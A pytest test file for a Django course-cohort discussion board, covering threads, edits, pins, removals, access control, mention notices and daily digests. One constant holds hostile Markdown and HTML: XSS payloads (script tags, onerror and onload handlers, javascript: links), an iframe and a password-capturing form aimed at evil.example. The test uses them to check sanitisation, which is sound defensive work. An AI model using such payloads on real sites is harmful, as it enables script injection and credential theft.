"""The discussion: who gets in, what is kept, who is told, and Markdown that means harm."""

from datetime import datetime, timedelta

import pytest
from django.utils import timezone
from pytest_django.fixtures import DjangoAssertNumQueries

from practicum.cohorts.api import (
    Cohort,
    edit_post,
    end_seat,
    mark_read,
    pin_thread,
    remove_post,
    reply_to,
    send_digests,
    start_thread,
)
from practicum.cohorts.models import PostVersion
from practicum.cohorts.queries.discussion import access_post, handles_of, read_thread, threads_of, unread_by_week
from practicum.kernel.errors import InvalidState, NotFound, NotPermitted, Refusal
from practicum.ledger.api import Record
from practicum.notices.api import Notice, notices_to
from practicum.people.api import Person
from tests.factories.cohorts import (
    make_facilitator,
    make_forming_cohort,
    make_manager,
    make_mentor,
    make_running_cohort,
)
from tests.factories.cohorts import seats_of as seats_of_cohort
from tests.factories.people import NOON, make_person, sign_in

pytestmark = pytest.mark.django_db
LATER = NOON + timedelta(hours=1)
HARM = """<script>alert(1)</script><img src=x onerror=alert(1)>
[click](javascript:alert(1)) [data](data:text/html;base64,PHNjcmlwdD4=) <a href="javascript:alert(2)">x</a>
[ok](https://example.org) ![pic](https://example.org/track.png)
<style>body{display:none}</style><iframe src="//evil.example"></iframe><svg onload=alert(1)></svg>
<form action="https://evil.example"><input name=password></form>
"""


@pytest.fixture
def cohort() -> Cohort:
    return make_running_cohort(10)


def people(cohort: Cohort) -> list[Person]:
    return [seat.candidacy.person for seat in seats_of_cohort(cohort)]


def digests(person: Person) -> list[str]:
    return [notice.body for notice in notices_to(person.pk) if notice.subject.startswith("New posts")]


def test_threads_replies_edits_pins_and_removals(cohort: Cohort) -> None:
    ada, bob, *_ = people(cohort)
    mentor, leader = cohort.mentors.first().person, cohort.facilitator
    thread = start_thread(actor=ada, cohort=cohort, week=1, title="Who pays?", text="For **idle** hours", now=NOON)
    reply = reply_to(actor=bob, thread=thread, text="Whoever sized it.", now=LATER)
    deep = reply_to(actor=mentor, thread=reply, text="And who forecast it?", now=LATER)
    assert deep.thread == thread, "one level of replies"
    assert Record.objects.filter(kind="cohorts.post_written").count() == 3
    assert "idle" not in str(list(Record.objects.values_list("data", flat=True)))

    edit_post(actor=bob, post=reply, text="Whoever bought it.", now=LATER)
    edit_post(actor=bob, post=reply, text="Whoever bought it.", now=LATER)
    assert [one.text for one in PostVersion.objects.filter(post=reply)] == ["Whoever sized it."]
    for actor in (ada, leader, make_manager()):
        with pytest.raises(NotPermitted):
            edit_post(actor=actor, post=reply, text="Mine now", now=LATER)
    edit_post(actor=ada, post=thread, title="Who bears it?", text="For idle hours", now=LATER)
    assert thread.versions.get().title == "Who pays?"

    for actor in (ada, mentor):
        with pytest.raises(NotPermitted):
            pin_thread(actor=actor, thread=thread, is_pinned=True, now=LATER)
    with pytest.raises(Refusal):
        pin_thread(actor=leader, thread=reply, is_pinned=True, now=LATER)
    other = start_thread(actor=bob, cohort=cohort, week=1, title="Newer", text="x", now=LATER + timedelta(hours=1))
    assert [row.post for row in threads_of(cohort, 1, ada)] == [other, thread]
    pin_thread(actor=leader, thread=thread, is_pinned=True, now=LATER)
    assert [row.post for row in threads_of(cohort, 1, ada)] == [thread, other]
    pin_thread(actor=leader, thread=thread, is_pinned=False, now=LATER)
    assert Record.objects.filter(kind="cohorts.thread_pinned").count() == 2

    with pytest.raises(NotPermitted):
        remove_post(actor=ada, post=reply, reason="I disagree", now=LATER)
    with pytest.raises(Refusal):
        remove_post(actor=leader, post=reply, reason=" ", now=LATER)
    remove_post(actor=leader, post=reply, reason="Names a supplier.", now=LATER)
    assert "Names a supplier." in notices_to(bob.pk)[0].body
    remove_post(actor=mentor, post=deep, reason="Said twice.", now=LATER)
    deep.refresh_from_db()
    assert deep.text == "", "what its author removed is gone"
    for act in (edit_post, remove_post):
        with pytest.raises(Refusal, match="removed"):
            act(actor=bob, post=reply, now=LATER, **({"text": "x"} if act is edit_post else {"reason": "x"}))
    seen = {
        reader: [one.text for one in read_thread(thread, reader, access_post(reader, thread.code, now=NOON)[1])][1]
        for reader in (ada, mentor, bob, leader, make_manager())
    }
    assert list(seen.values()) == ["", "", "Whoever bought it.", "Whoever bought it.", "Whoever bought it."]
    kinds = Record.objects.filter(subjects__contains=[reply.code]).values_list("kind", flat=True)
    assert sorted(kinds) == ["cohorts.post_edited", "cohorts.post_removed", "cohorts.post_written"]


def test_nobody_else_gets_in(cohort: Cohort) -> None:
    ada = people(cohort)[0]
    thread = start_thread(actor=ada, cohort=cohort, week=1, title="Ours", text="secret words", now=NOON)
    gone = seats_of_cohort(cohort)[1]
    end_seat(actor=make_manager(), seat=gone, reason="Other plans.", now=NOON)
    for outsider in (make_person(), make_facilitator(), make_mentor(), gone.candidacy.person):
        with pytest.raises(NotFound):
            access_post(outsider, thread.code, now=NOON)
        with pytest.raises(NotPermitted):
            reply_to(actor=outsider, thread=thread, text="x", now=NOON)
        with pytest.raises(NotPermitted):
            start_thread(actor=outsider, cohort=cohort, week=1, title="x", text="x", now=NOON)
        client = sign_in(outsider)
        for url in (
            f"/cohorts/{cohort.code}/weeks/1/discussion/",
            f"/cohorts/discussion/{thread.code}/",
            f"/cohorts/discussion/{thread.code}/edit/",
            f"/cohorts/discussion/{thread.code}/remove/",
        ):
            assert client.get(url).status_code == 404, url
        assert client.post(f"/cohorts/discussion/{thread.code}/pin/", {"pin": "1"}).status_code == 404
    forming = make_forming_cohort(10)
    with pytest.raises(InvalidState):
        start_thread(actor=forming.facilitator, cohort=forming, week=1, title="x", text="x", now=NOON)
    with pytest.raises(NotFound):
        start_thread(actor=ada, cohort=cohort, week=99, title="x", text="x", now=NOON)


def test_who_is_mentioned_is_told_once(cohort: Cohort) -> None:
    ada, bob, *_ = people(cohort)
    handles = handles_of(cohort)
    text = f"@{handles[bob]} and @{handles[cohort.facilitator]}, and myself @{handles[ada]}; not @nobody."
    thread = start_thread(actor=ada, cohort=cohort, week=1, title="Ask", text=text, now=NOON)
    subject = f"{ada.name} mentions you in {cohort.name}"
    told = lambda: sorted(Notice.objects.filter(subject=subject).values_list("person_id", flat=True))  # noqa: E731
    assert told() == sorted([bob.pk, cohort.facilitator_id])
    assert "Ask" not in Notice.objects.filter(subject=subject)[0].body, "posts stay out of mail"
    edit_post(actor=ada, post=thread, title="Ask", text=text + " Once more.", now=LATER)
    assert len(told()) == 2
    extra = people(cohort)[2]
    edit_post(actor=ada, post=thread, title="Ask", text=f"{text} @{handles[extra]}", now=LATER)
    assert len(told()) == 3


def test_unread_marks_and_the_daily_digest(cohort: Cohort) -> None:
    ada, bob, eve, *_ = people(cohort)
    morning = datetime(2026, 9, 2, 8, 0, tzinfo=NOON.tzinfo)
    thread = start_thread(actor=ada, cohort=cohort, week=1, title="Who pays?", text="x", now=NOON)
    reply_to(actor=bob, thread=thread, text="y", now=LATER)
    assert unread_by_week(cohort, eve) == {1: 2}
    assert unread_by_week(cohort, ada) == {1: 1}
    mark_read(actor=ada, threads=[thread], now=LATER)
    assert unread_by_week(cohort, ada) == {}
    assert send_digests(morning.replace(hour=6)) == 0, "not before their morning"
    everybody = 10 + 1 + cohort.mentors.count()
    assert send_digests(morning) == everybody - 1, "ada has read everything"
    assert send_digests(morning) == 0
    assert send_digests(morning + timedelta(hours=3)) == 0
    assert digests(ada) == []
    (told,) = digests(eve)
    assert "week 1, “Who pays?”: 2 new posts" in told
    reply_to(actor=ada, thread=thread, text="z", now=morning + timedelta(hours=1))
    remove_post(
        actor=ada,
        post=reply_to(actor=ada, thread=thread, text="slip", now=morning + timedelta(hours=1)),
        reason="slip",
        now=morning + timedelta(hours=1),
    )
    assert send_digests(morning + timedelta(hours=4)) == 0, "once a day"
    assert send_digests(morning + timedelta(days=1)) == everybody - 1
    assert "“Who pays?”: 1 new post\n" in digests(eve)[0] + "\n"
    assert send_digests(morning + timedelta(days=2)) == 0, "no news, no mail"
    assert len(digests(eve)) == 2


def test_hostile_markdown_does_no_harm(cohort: Cohort) -> None:
    ada, bob, *_ = people(cohort)
    client = sign_in(ada)
    url = f"/cohorts/{cohort.code}/weeks/1/discussion/"
    sent = client.post(url, {"title": "<script>alert('title')</script>", "text": HARM})
    assert sent.status_code == 302
    for reader in (ada, bob, cohort.facilitator):
        page = sign_in(reader).get(sent["Location"]).content.decode()
        body = page[page.index("<main") : page.index("</main>")]
        for harm in (
            "<script", "<img", '<a href="javascript', '<a href="data:', "<style", "<iframe", "<svg", '<form action="http',
        ):  # fmt: skip
            assert harm not in body, harm
        assert "&lt;script&gt;alert(&#x27;title&#x27;)" in body
        assert 'href="https://example.org" rel="noopener noreferrer"' in body
    listed = sign_in(bob).get(url).content.decode()
    assert "<script>alert" not in listed


def test_pages_of_the_discussion(cohort: Cohort, django_assert_num_queries: DjangoAssertNumQueries) -> None:
    ada, bob, *_ = people(cohort)
    client, url = sign_in(ada), f"/cohorts/{cohort.code}/weeks/1/discussion/"
    assert "Nobody has begun yet" in client.get(url).content.decode()
    for wrong in ({}, {"title": "", "text": "x"}, {"title": "x", "text": " "}, {"title": "x" * 121, "text": "x"}):
        assert client.post(url, wrong).status_code == 422
    kept = client.post(url, {"title": "", "text": "What I typed\x00"})
    assert kept.status_code == 422
    assert 'href="#id_title"' in kept.content.decode()
    place = client.post(url, {"title": "Who pays?", "text": "x"})["Location"]
    for number in (1, 3):
        while len(threads_of(cohort, 1, bob)) < number:
            start_thread(actor=bob, cohort=cohort, week=1, title="More", text="y", now=timezone.now())
        with django_assert_num_queries(12):
            client.get(url)
    thread_url = place.split("#")[0]
    assert client.post(thread_url, {"text": ""}).status_code == 422
    assert client.post(thread_url, {"text": "A reply"}).status_code == 302
    bobs = sign_in(bob)
    assert "is-new" in bobs.get(thread_url).content.decode()
    assert "is-new" not in bobs.get(thread_url).content.decode()
    assert bobs.head(thread_url).status_code == 200
    assert bobs.get(f"{thread_url}edit/").status_code == 403
    assert bobs.get(f"{thread_url}remove/").status_code == 403
    assert bobs.post(f"{thread_url}pin/", {"pin": "1"}).status_code == 403
    assert client.post(f"{thread_url}edit/", {"title": "Who?", "text": ""}).status_code == 422
    assert client.post(f"{thread_url}edit/", {"title": "Who?", "text": "better"}).status_code == 302
    page = bobs.get(thread_url).content.decode()
    assert "Edited on" in page
    assert "with the title “Who pays?”" in page
    leads = sign_in(cohort.facilitator)
    assert leads.post(f"{thread_url}pin/", {"pin": "1"}).status_code == 302
    assert "pinned" in bobs.get(url).content.decode()
    assert leads.post(f"{thread_url}remove/", {"reason": ""}).status_code == 422
    assert leads.post(f"{thread_url}remove/", {"reason": "Names somebody."}).status_code == 302
    page = bobs.get(thread_url).content.decode()
    assert "Names somebody." in page
    assert "better" not in page
    assert "Who?" not in bobs.get(url).content.decode()
    assert bobs.post(f"{url}read/").status_code == 302
    assert unread_by_week(cohort, bob) == {}
